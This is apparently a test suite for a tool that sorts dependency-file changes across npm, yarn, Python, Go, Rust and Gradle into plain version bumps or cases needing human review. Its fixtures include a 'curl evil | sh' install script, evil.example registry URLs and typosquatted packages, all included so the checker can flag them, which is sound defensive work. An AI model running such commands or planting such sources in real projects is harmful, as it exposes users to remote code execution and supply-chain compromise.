"""Dependency changes: bumps that explain a whole change, and everything that sends one to a person."""

import json
from collections.abc import Callable, Mapping

import pytest

from scoring.hazards.dependencies.judge import judge
from scoring.hazards.dependencies.versions import admits, step
from scoring.hazards.rule import File, Sides
from scoring.inspection import Bump

Files = Mapping[str, str]


def looked(old: Files, new: Files, beside: Files | None = None) -> tuple[list[str], list[tuple[str, str, str]]]:
    """Names of the hazards, and the bumps, of a change of files; `beside` stays as it is."""
    there = beside or {}
    files = tuple(
        File(path, old[path].encode() if path in old else None, new[path].encode() if path in new else None)
        for path in sorted({*old, *new})
        if old.get(path) != new.get(path)
    )
    dependencies, hazards = judge(Sides(files, lambda side, path: {**there, **new}.get(path, "").encode()))
    bumps = dependencies.bumps if dependencies else ()
    return sorted({each.rule for each in hazards}), [(each.package, each.before, each.after) for each in bumps]


# --- npm


def entry(name: str, version: str, **more: object) -> dict[str, object]:
    base = name.rpartition("/")[2]
    address = f"https://registry.npmjs.org/{name}/-/{base}-{version}.tgz"
    return {"version": version, "resolved": address, "integrity": f"sha512-{name}{version}", **more}


def npm(wanted: Mapping[str, str], entries: Mapping[str, dict[str, object]], **root: object) -> dict[str, str]:
    lock = {
        "name": "shop", "lockfileVersion": 3, "packages": {
            "": {"name": "shop", "dependencies": wanted, **root},
            **{f"node_modules/{place}": each for place, each in entries.items()},
        },
    }  # fmt: skip
    manifest = {"name": "shop", "scripts": {"test": "jest"}, "dependencies": wanted}
    return {"package.json": json.dumps(manifest), "package-lock.json": json.dumps(lock)}


OLD = npm(
    {"ky": "^1.2.0"}, {"ky": entry("ky", "1.2.0", dependencies={"tiny": "^2.0.0"}), "tiny": entry("tiny", "2.0.1")}
)


def bumped(version: str = "1.3.0", wanted: str = "^1.3.0", **more: object) -> dict[str, str]:
    ky = entry("ky", version, dependencies={"tiny": "^2.0.0"}) | more
    return npm({"ky": wanted}, {"ky": ky, "tiny": entry("tiny", "2.0.1")})


def with_tiny(**more: object) -> dict[str, str]:
    ky = entry("ky", "1.3.0", dependencies={"tiny": "^2.0.0"})
    return npm({"ky": "^1.3.0"}, {"ky": ky, "tiny": entry("tiny", "2.0.1", **more)})


def test_a_minor_bump_of_manifest_and_lock_file_is_explained() -> None:
    assert looked(OLD, bumped()) == ([], [("ky", "1.2.0", "1.3.0")])


def test_a_bump_within_what_the_manifest_asks_for_needs_the_lock_file_alone() -> None:
    new = {**bumped(wanted="^1.2.0"), "package.json": OLD["package.json"]}
    assert looked(OLD, new, OLD) == ([], [("ky", "1.2.0", "1.3.0")])


@pytest.mark.parametrize(
    ("new", "rule"),
    [
        (bumped("2.0.0", "^2.0.0"), "dependency_major"),
        (bumped("1.1.0", "^1.1.0"), "dependency_downgrade"),
        (bumped("1.3.0-rc.1", "^1.3.0-rc.1"), "dependency_version"),
        (bumped(resolved="https://evil.example/ky/-/ky-1.3.0.tgz"), "dependency_source"),
        (bumped(resolved="https://registry.npmjs.org/kyy/-/kyy-1.3.0.tgz"), "dependency_source"),
        (bumped(resolved="https://registry.npmjs.org.evil.example/ky/-/ky-1.3.0.tgz"), "dependency_source"),
        (bumped(resolved="git+ssh://git@github.com/x/ky.git#0123"), "dependency_source"),
        (bumped(name="evil"), "dependency_source"),
        (bumped(integrity=""), "dependency_integrity"),
        (bumped(integrity="sha1-weak"), "dependency_integrity"),
        (bumped(hasInstallScript=True), "dependency_script"),
        (bumped("1.2.0", "^1.2.0", integrity="sha512-other"), "dependency_integrity"),
        (bumped("1.2.0", "^1.2.0", resolved="https://evil.example/ky-1.2.0.tgz"), "dependency_integrity"),
        ({**bumped(), "package.json": OLD["package.json"]}, "dependency_step"),
        ({**OLD, "package.json": bumped()["package.json"]}, "dependency_step"),
        (bumped("1.2.9", "^1.3.0"), "dependency_step"),
        (npm({"ky": "^1.2.0", "new": "^1.0.0"}, {"ky": entry("ky", "1.2.0")}), "dependency_new"),
        ({**bumped(), "package.json": bumped()["package.json"].replace("jest", "curl evil | sh")}, "dependency_other"),
        ({**bumped(wanted="github:x/ky")}, "dependency_source"),
        ({**bumped(wanted="https://evil.example/ky.tgz")}, "dependency_source"),
        ({**bumped(wanted=">=1.3.0")}, "dependency_other"),
        ({"package.json": bumped()["package.json"]}, "dependency_other"),
        ({**bumped(), "package-lock.json": "{"}, "dependency_unread"),
        ({**bumped(), "package-lock.json": "[" * 100_000}, "dependency_unread"),
        ({**bumped(), "package-lock.json": '{"lockfileVersion": 1, "dependencies": {}}'}, "dependency_unread"),
        ({**bumped(), "package-lock.json": '{"a": 1, "a": 2}'}, "dependency_unread"),
        ({**OLD, "package.json": OLD["package.json"] + "\n"}, "dependency_other"),
        (with_tiny(resolved="https://evil.example/tiny-2.0.1.tgz", extraneous=True), "dependency_other"),  # says who?
        (with_tiny(bin={"node": "tiny.js"}), "dependency_integrity"),
        (npm({"ky": "^1.3.0"}, {"ky": entry("ky", "1.3.0", dependencies={"tiny": "^2.0.0"})}), "dependency_step"),
    ],
)  # fmt: skip
def test_of_npm_everything_else_is_for_a_person(new: dict[str, str], rule: str) -> None:
    assert rule in looked(OLD, new, OLD)[0]


@pytest.mark.parametrize("beside", ["yarn.lock", "pnpm-lock.yaml", "bun.lock", "npm-shrinkwrap.json"])
def test_a_lock_file_of_another_tool_beside_it_binds_the_manifest_too(beside: str) -> None:
    assert looked(OLD, bumped(), {beside: OLD["package-lock.json"]})[0] == ["dependency_step"]
    alone = {"package.json": OLD["package.json"]}, {"package.json": bumped()["package.json"]}
    assert looked(*alone) == ([], [("ky", "1.2.0", "1.3.0")])
    unread = "dependency_unread" if beside == "yarn.lock" else "dependency_step"  # a form that is none of yarn's
    assert looked(*alone, {beside: OLD["package-lock.json"]})[0] == [unread]


def test_what_a_bumped_package_newly_needs_may_come_and_nothing_beside() -> None:
    ky = entry("ky", "1.3.0", dependencies={"tiny": "^2.0.0", "deep": "^1.0.0"})
    more = {"ky": ky, "tiny": entry("tiny", "2.0.1"), "deep": entry("deep", "1.0.1", dependencies={"deeper": "1"})}
    told = looked(OLD, npm({"ky": "^1.3.0"}, {**more, "deeper": entry("deeper", "1.0.0")}))
    assert (told[0], sorted(told[1])) == (
        [],
        [("deep", "", "1.0.1"), ("deeper", "", "1.0.0"), ("ky", "1.2.0", "1.3.0")],
    )
    assert "dependency_new" in looked(OLD, npm({"ky": "^1.3.0"}, {**more, "other": entry("other", "1.0.0")}))[0]
    scripted = {**more, "deeper": entry("deeper", "1.0.0", hasInstallScript=True)}
    assert "dependency_script" in looked(OLD, npm({"ky": "^1.3.0"}, scripted))[0]


def test_a_package_that_stays_as_it_is_explains_no_other_that_comes() -> None:
    lured = {"ky": entry("ky", "1.3.0"), "tiny": entry("tiny", "2.0.1", dependencies={"evil": "1"})}
    told = looked(OLD, npm({"ky": "^1.3.0"}, {**lured, "evil": entry("evil", "1.0.0")}))
    assert "dependency_new" in told[0]


def test_of_two_versions_each_takes_the_place_of_its_own() -> None:
    def both(one: str, other: str) -> dict[str, str]:
        return npm({"ky": "^1.2.0"}, {"ky": entry("ky", one), "a/node_modules/ky": entry("ky", other)})

    assert looked(both("7.28.0", "6.27.0"), both("7.29.0", "6.28.0"), both("1.2.0", "1.2.0"))[0] == ["dependency_step"]
    assert "dependency_downgrade" in looked(both("7.28.0", "6.27.0"), both("6.28.0", "6.28.0"))[0]


def test_a_lock_file_that_says_two_things_of_one_package_is_not_read() -> None:
    def twice(version: str, legacy: str, **more: object) -> dict[str, str]:
        files = bumped(version, "^1.2.0")
        lock = json.loads(files["package-lock.json"])
        tiny = {"version": "2.0.1", "integrity": "sha512-tiny2.0.1"}
        ky = {"version": legacy, "integrity": f"sha512-ky{legacy}", **more}
        lock |= {"lockfileVersion": 2, "dependencies": {"ky": ky, "tiny": tiny}}
        return {**files, "package-lock.json": json.dumps(lock)}

    assert looked(twice("1.2.0", "1.2.0"), twice("1.3.0", "1.3.0"))[0] == []
    for other in (twice("1.3.0", "1.2.0"), twice("1.3.0", "1.3.0", resolved="https://evil.example/ky.tgz")):
        assert looked(twice("1.2.0", "1.2.0"), other)[0] == ["dependency_unread"]


# --- Python

PINS = "aiohttp==3.9.0 \\\n    --hash=sha256:aa\nyarl==1.9.4  # via aiohttp\n-r base.txt\n"


@pytest.mark.parametrize(
    ("new", "rules"),
    [
        (PINS.replace("3.9.0", "3.9.1").replace("aa", "bb"), []),
        (PINS.replace("3.9.0", "3.10.0"), []),
        (PINS.replace("3.9.0", "4.0.0"), ["dependency_major"]),
        (PINS.replace("3.9.0", "3.8.0"), ["dependency_downgrade"]),
        (PINS.replace("3.9.0", "3.9.1rc1"), ["dependency_version"]),
        (PINS.replace("aa", "bb"), ["dependency_integrity"]),
        (PINS.replace("3.9.0 \\\n    --hash=sha256:aa", "3.9.1"), ["dependency_integrity"]),
        (PINS + "evil==1.0\n", ["dependency_new"]),
        (PINS + "evil @ https://evil.example/x.whl\n", ["dependency_other"]),
        (PINS.replace("-r base.txt", "--index-url https://evil.example/simple"), ["dependency_other"]),
        (PINS.replace("3.9.0", "3.9.1") + "--extra-index-url https://evil.example\n", ["dependency_other"]),
        (PINS.replace("aiohttp==3.9.0", "aiohttp>=3.9.0"), ["dependency_other"]),
        (PINS.replace("3.9.0", "3.9.1+evil"), ["dependency_version"]),  # a local version is on no public registry
        (PINS.replace("3.9.0", "3.9.1").replace("yarl==1.9.4  # via aiohttp\n", ""), ["dependency_other"]),
        (PINS.replace("3.9.0", "3.9.1").replace("yarl=", "yarl[evil]="), ["dependency_other"]),
        (
            PINS.replace("3.9.0", "3.9.1").replace("yarl==1.9.4", "yarl==1.9.4; python_version<'3'"),
            ["dependency_other"],
        ),
    ],
)
def test_pins_of_python(new: str, rules: list[str]) -> None:
    assert looked({"requirements/dev.txt": PINS}, {"requirements/dev.txt": new})[0] == rules


@pytest.mark.parametrize(
    ("new", "rules"),
    [("requests>=2.1,<3\n", []), ("requests>=2.1,<4\n", ["dependency_major"]), ("requests\n", ["dependency_new"]),
     ("requests>=2.1,<3\nevil\n", ["dependency_other"])],
)  # fmt: skip
def test_requirements_of_python_that_are_no_pins(new: str, rules: list[str]) -> None:
    told = looked({"requirements.txt": "requests>=2.0,<3\n"}, {"requirements.txt": new})[0]
    assert set(rules) <= set(told)
    assert bool(told) == bool(rules)


def uv(
    version: str, spec: str, *, url: str = "https://files.pythonhosted.org/packages/aa", **more: str
) -> dict[str, str]:
    wheel = more.get(
        "wheel", f'wheels = [{{ url = "{url}/httpx-{version}-py3-none-any.whl", hash = "sha256:{version}" }}]'
    )
    source = more.get("source", '{ registry = "https://pypi.org/simple" }')
    lock = f"""version = 1
[[package]]
name = "httpx"
version = "{version}"
source = {source}
{wheel}
[[package]]
name = "shop"
version = "0.1.0"
source = {{ virtual = "." }}
[package.metadata]
requires-dist = [{{ name = "httpx", specifier = "{more.get("said", spec)}" }}]
"""
    manifest = f'[project]\nname = "shop"\ndependencies = ["httpx{spec}"]\n'
    return {"pyproject.toml": manifest, "uv.lock": lock}


EVIL = """wheels = [
  { url = "https://files.pythonhosted.org/packages/aa/httpx_evil-1.3.0-py3-none-any.whl", hash = "sha256:b" }
]"""
UV = uv("1.2.0", ">=1.2.0")


@pytest.mark.parametrize(
    ("new", "rule"),
    [
        (uv("1.3.0", ">=1.3.0"), ""),
        (uv("1.3.0", ">=1.2.0"), ""),
        (uv("2.0.0", ">=2.0.0"), "dependency_major"),
        (uv("1.2.9", ">=1.3.0"), "dependency_step"),
        (uv("1.3.0", ">=1.3.0", said=">=1.2.0"), "dependency_step"),
        (uv("1.3.0", ">=1.3.0", url="https://evil.example"), "dependency_source"),
        (uv("1.3.0", ">=1.3.0", source='{ git = "https://github.com/x/httpx" }'), "dependency_source"),
        (uv("1.3.0", ">=1.3.0", wheel=""), "dependency_script"),
        (uv("1.3.0", ">=1.3.0", url="https://files.pythonhosted.org/packages/aa/evil"), ""),
        (uv("1.3.0", ">=1.3.0", wheel=EVIL), "dependency_source"),
        (uv("1.2.0", ">=1.2.0", wheel='wheels = [{ url = "x", hash = "sha256:evil" }]'), "dependency_integrity"),
    ],
)  # fmt: skip
def test_pyproject_and_uv_lock(new: dict[str, str], rule: str) -> None:
    rules = looked(UV, new, UV)[0]
    assert (rule in rules) if rule else rules == []


def poetry(version: str, spec: str, said: str = "sha256:a") -> dict[str, str]:
    lock = f'[[package]]\nname = "rich"\nversion = "{version}"\nfiles = [{{ file = "rich-{version}-py3-none-any.whl", '
    lock += f'hash = "{said}{version}" }}]\n[metadata]\nlock-version = "2.1"\ncontent-hash = "{spec}"\n'
    return {"pyproject.toml": f'[tool.poetry.dependencies]\npython = "^3.11"\nrich = "{spec}"\n', "poetry.lock": lock}


@pytest.mark.parametrize(
    ("new", "rules"),
    [
        (poetry("13.1.0", "^13.1"), []),
        (poetry("14.0.0", "^14.0"), ["dependency_major"]),
        (poetry("13.0.9", "^13.1"), ["dependency_step"]),
        (poetry("13.0.0", "^13.0", "sha256:evil"), ["dependency_integrity"]),
    ],
)
def test_poetry(new: dict[str, str], rules: list[str]) -> None:
    assert looked(poetry("13.0.0", "^13.0"), new, poetry("13.0.0", "^13.0"))[0] == rules


# --- Go and Rust

SUM = "h1:" + "A" * 43 + "="


def go(version: str, *, sums: str | None = None, more: str = "") -> dict[str, str]:
    said = version if sums is None else sums
    text = f"example.org/mod {said} {SUM}\nexample.org/mod {said}/go.mod {SUM}\n" if said else ""
    return {"go.mod": f"module shop\n\ngo 1.24\n\nrequire (\n\texample.org/mod {version}\n{more})\n", "go.sum": text}


@pytest.mark.parametrize(
    ("new", "rule"),
    [
        (go("v1.3.0"), ""),
        (go("v1.3.0", sums="v1.2.0"), "dependency_step"),
        (go("v1.1.0"), "dependency_downgrade"),
        (go("v1.3.0-rc1"), "dependency_version"),
        (go("v1.3.0", more="\texample.org/new v1.0.0 // indirect\n"), "dependency_new"),
        ({**go("v1.3.0"), "go.mod": go("v1.3.0")["go.mod"] + "replace a => ../evil\n"}, "dependency_other"),
        ({**go("v1.2.0"), "go.sum": go("v1.2.0")["go.sum"].replace("A=", "B=")}, "dependency_integrity"),
        ({**go("v1.3.0"), "go.sum": go("v1.3.0")["go.sum"] + f"evil.example/x v1.0.0 {SUM}\n"}, "dependency_new"),
        ({**go("v1.3.0"), "go.sum": "what is this"}, "dependency_unread"),
    ],
)  # fmt: skip
def test_go(new: dict[str, str], rule: str) -> None:
    rules = looked(go("v1.2.0"), new, go("v1.2.0"))[0]
    assert (rule in rules) if rule else rules == []


def rust(version: str, spec: str = "1.2", *, checksum: str = "", source: str = "", more: str = "") -> dict[str, str]:
    where = source or "registry+https://github.com/rust-lang/crates.io-index"
    lock = 'version = 4\n[[package]]\nname = "shop"\nversion = "0.1.0"\n'
    lock += f'[[package]]\nname = "serde"\nversion = "{version}"\n'
    lock += f'source = "{where}"\nchecksum = "{checksum or version}"\n{more}'
    manifest = f'[package]\nname = "shop"\n[dependencies]\nserde = {{ version = "{spec}", features = ["derive"] }}\n'
    return {"Cargo.toml": manifest, "Cargo.lock": lock}


GONE = rust("1.3.0") | {"Cargo.lock": 'version = 4\n[[package]]\nname = "shop"\nversion = "0.1.0"\n'}
COMES = '[[package]]\nname = "x"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n'


@pytest.mark.parametrize(
    ("new", "rule"),
    [
        (rust("1.3.0"), ""),
        (rust("1.3.0", "1.3"), ""),
        (rust("2.0.0", "2.0"), "dependency_major"),
        (rust("1.2.9", "1.3"), "dependency_step"),
        (rust("1.2.0", checksum="evil"), "dependency_integrity"),
        (rust("1.3.0", source="git+https://github.com/x/serde#0123"), "dependency_source"),
        (rust("1.3.0", more=COMES), "dependency_new"),
        (GONE, "dependency_step"),
        ({**rust("1.3.0"), "Cargo.toml": rust("1.3.0")["Cargo.toml"].replace("derive", "evil")}, "dependency_other"),
    ],
)
def test_rust(new: dict[str, str], rule: str) -> None:
    rules = looked(rust("1.2.0"), new, rust("1.2.0"))[0]
    assert (rule in rules) if rule else rules == []


# --- all of them


@pytest.mark.parametrize("path", ["yarn.lock", "Gemfile.lock", "composer.lock", "mix.lock", "flake.lock"])
def test_a_lock_file_of_a_kind_that_is_not_read_is_for_a_person(path: str) -> None:
    assert looked({path: "a"}, {path: "b"})[0] == ["dependency_unread"]


def test_a_change_of_no_such_file_says_nothing_of_packages() -> None:
    assert judge(Sides((File("a.py", b"a", b"b"),))) == (None, ())


def test_a_bump_knows_its_ecosystem() -> None:
    files = (File("requirements.txt", b"a==1.0\n", b"a==1.1\n"),)
    dependencies, _ = judge(Sides(files))
    assert dependencies is not None
    assert (dependencies.files, dependencies.bumps) == (("requirements.txt",), (Bump("python", "a", "1.0", "1.1"),))


@pytest.mark.parametrize(
    ("before", "after", "kind"),
    [("1.2.3", "1.2.4", "minor"), ("1.2.3", "1.3.0", "minor"), ("1.2.3", "2.0.0", "major"), ("0.2.3", "0.3.0", "major"),
     ("0.2.3", "0.2.4", "minor"), ("0.0.3", "0.0.4", "major"), ("v1.2.3", "v1.2.2", "down"), ("1.0", "1.0.0", "odd"),
     ("1.2.3", "1.3.0rc1", "odd"), ("v0.0.0-20240101000000-abcdef123456", "v1.0.0", "odd"), ("1.0", "1.0", "same"),
     ("1.0.0+1", "1.0.0+2", "odd"), ("9" * 40, "9" * 41, "odd"), ("0.9", "1.0", "major")],
)  # fmt: skip
def test_what_a_step_promises(before: str, after: str, kind: str) -> None:
    assert step(before, after) == kind


@pytest.mark.parametrize(
    ("spec", "version", "told"),
    [("^1.2.0", "1.9.0", True), ("^1.2.0", "2.0.0", False), ("^0.2.0", "0.3.0", False), ("~1.2.0", "1.2.9", True),
     ("~1.2.0", "1.3.0", False), (">=1.2,<2", "1.5", True), (">=1.2 <2", "2.1", False), ("1.x", "1.5.0", True),
     ("^1 || ^2", "2.5.0", True), ("*", "7.0.0", True), ("~=1.4", "1.9", True), ("~=1.4.2", "1.5.0", False),
     ("==1.4.*", "1.4.9", True), ("1.2.3", "1.2.3", True), ("1.2.3", "1.2.4", False), ("workspace:*", "1.0.0", None),
     ("!=1.5", "1.5", False), ("^1.0.0", "1.0.0-rc1", None)],
)  # fmt: skip
def test_what_a_requirement_lets_in(spec: str, version: str, told: bool | None) -> None:
    assert admits(spec, version, bare="=") is told


@pytest.mark.parametrize("cut", [lambda text: text[: len(text) // 2], lambda text: text[:-3] + "]]", lambda _: "\x00"])
def test_a_lock_file_that_is_cut_or_no_text_is_for_a_person(cut: Callable[[str], str]) -> None:
    for old, new, path in (
        (OLD, bumped(), "package-lock.json"), (UV, uv("1.3.0", ">=1.3.0"), "uv.lock"),
        (rust("1.2.0"), rust("1.3.0"), "Cargo.lock"), (go("v1.2.0"), go("v1.3.0"), "go.sum"),
    ):  # fmt: skip
        assert looked(old, {**new, path: cut(new[path])}, old)[0] != []


@pytest.mark.parametrize(
    "line",
    ["a" + " " * 19_000 + "@", "a" * 19_000 + "@", "a==1 " + "; " * 9_000 + "#@", "[" * 19_000, "a" * 30_000,
     "a" + "[" * 19_000 + "@", "=" * 19_000 + "1", "a==" + "1." * 9_000 + "@"],
)  # fmt: skip
def test_a_line_that_asks_much_of_its_reader_costs_no_more_than_its_length(line: str) -> None:
    assert looked({"requirements.txt": "a==1\n"}, {"requirements.txt": f"a==1\n{line}\n"})[0] != []
    project = '[project]\ndependencies = ["a==1"]\n'
    assert looked({"pyproject.toml": project}, {"pyproject.toml": project.replace("a==1", line)})[0] != []
    manifest = json.dumps({"dependencies": {"a": "1.0.0"}})
    assert looked({"package.json": manifest}, {"package.json": manifest.replace("1.0.0", line)})[0] != []


CATALOG = """\
[versions]
okio = "3.8.0"
kotlin = { strictly = "1.9.0" }

[libraries]
okio = { module = "com.squareup.okio:okio", version.ref = "okio" }
guava = "com.google.guava:guava:33.1.0"
junit = { module = "junit:junit", version = "4.13.1" }

[plugins]
spotless = { id = "com.diffplug.spotless", version = "6.25.0" }
"""


@pytest.mark.parametrize(
    ("before", "after", "bumps"),
    [
        ('okio = "3.8.0"', 'okio = "3.9.0"', [("okio", "3.8.0", "3.9.0")]),
        (":33.1.0", ":33.2.0", [("com.google.guava:guava", "33.1.0", "33.2.0")]),
        ("4.13.1", "4.13.2", [("junit:junit", "4.13.1", "4.13.2")]),
        ("6.25.0", "6.26.0", [("com.diffplug.spotless", "6.25.0", "6.26.0")]),
    ],
)  # fmt: skip
def test_a_catalog_of_gradle_may_name_newer_versions(before: str, after: str, bumps: list[tuple[str, ...]]) -> None:
    path = "gradle/libs.versions.toml"
    assert looked({path: CATALOG}, {path: CATALOG.replace(before, after)}) == ([], bumps)


@pytest.mark.parametrize(
    ("before", "after", "rule"),
    [
        ('okio = "3.8.0"', 'okio = "4.0.0"', "dependency_major"),
        ('okio = "3.8.0"', 'okio = "3.7.0"', "dependency_downgrade"),
        ('okio = "3.8.0"', 'okio = "3.9.0-RC1"', "dependency_version"),
        ('okio = "3.8.0"', 'okio = "3.+"', "dependency_version"),
        ('okio = "3.8.0"', 'okio = { strictly = "3.9.0" }', "dependency_new"),
        ('strictly = "1.9.0"', 'strictly = "1.9.1"', "dependency_other"),
        ("com.squareup.okio:okio", "com.evil.okio:okio", "dependency_other"),
        ("com.google.guava:guava:33.1.0", "com.evil:guava:33.2.0", "dependency_new"),
        ('"com.google.guava:guava:33.1.0"', '"guava"', "dependency_unread"),
        ("[plugins]", '[plugins]\nmore = { id = "evil", version = "1.0.0" }', "dependency_new"),
        ("com.diffplug.spotless", "com.evil", "dependency_new"),
        ("[libraries]", "[libraries", "dependency_unread"),
    ],
)  # fmt: skip
def test_of_a_catalog_of_gradle_everything_else_is_for_a_person(before: str, after: str, rule: str) -> None:
    path = "gradle/libs.versions.toml"
    assert rule in looked({path: CATALOG}, {path: CATALOG.replace(before, after)})[0]


# --- yarn

YARN = "# THIS IS AN AUTOGENERATED FILE. DO NOT EDIT THIS FILE DIRECTLY.\n# yarn lockfile v1\n\n\n"


def yarn(version: str, wanted: str, more: str = "", **said: str) -> dict[str, str]:
    whole = {"resolved": f"https://registry.yarnpkg.com/ky/-/ky-{version}.tgz#{version}", "sum": f"sha512-{version}"}
    whole |= said
    ky = f'ky@{wanted}:\n  version "{version}"\n  resolved "{whole["resolved"]}"\n  integrity {whole["sum"]}\n'
    tiny = f'"@a/tiny@^2.0.0":\n  version "2.0.1"\n  resolved "{TINY}"\n  integrity sha512-tiny\n'
    text = f'{YARN}{tiny}\n{ky}  dependencies:\n    "@a/tiny" "^2.0.0"\n{more}'
    return {"package.json": json.dumps({"name": "shop", "dependencies": {"ky": wanted}}), "yarn.lock": text}


TINY = "https://registry.yarnpkg.com/@a/tiny/-/tiny-2.0.1.tgz#t"
NEW = '\nevil@^1.0.0:\n  version "1.0.0"\n  resolved "https://registry.yarnpkg.com/evil/-/evil-1.0.0.tgz#e"\n'


def test_a_bump_in_the_lock_file_of_yarn_is_explained() -> None:
    assert looked(yarn("1.2.0", "^1.2.0"), yarn("1.3.0", "^1.3.0")) == ([], [("ky", "1.2.0", "1.3.0")])


@pytest.mark.parametrize(
    ("new", "rule"),
    [
        (yarn("2.0.0", "^2.0.0"), "dependency_major"),
        (yarn("1.3.0", "^1.3.0", resolved="https://evil.example/ky/-/ky-1.3.0.tgz#1"), "dependency_source"),
        (yarn("1.3.0", "^1.3.0", resolved="https://registry.yarnpkg.com/kyy/-/kyy-1.3.0.tgz#1"), "dependency_source"),
        (yarn("1.3.0", "^1.3.0", sum="md5-weak"), "dependency_integrity"),
        (yarn("1.2.0", "^1.2.0", sum="sha512-other"), "dependency_integrity"),
        ({**yarn("1.3.0", "^1.3.0"), "package.json": yarn("", "^1.2.0")["package.json"]}, "dependency_step"),
        ({**yarn("1.3.0", "^1.2.0"), "package.json": yarn("", "^1.3.0")["package.json"]}, "dependency_step"),
        (yarn("1.3.0", "^1.3.0", NEW), "dependency_new"),
        (yarn("1.3.0", "^1.3.0", '\nky@^1.3.0:\n  version "1.9.0"\n'), "dependency_unread"),
        (yarn("1.3.0", "^1.3.0", '  bin "run"\n'), "dependency_unread"),
        ({**yarn("1.3.0", "^1.3.0"), "yarn.lock": "__metadata:\n  version: 8\n"}, "dependency_unread"),
    ],
)
def test_of_yarn_everything_else_is_for_a_person(new: dict[str, str], rule: str) -> None:
    assert rule in looked(yarn("1.2.0", "^1.2.0"), new, new)[0]
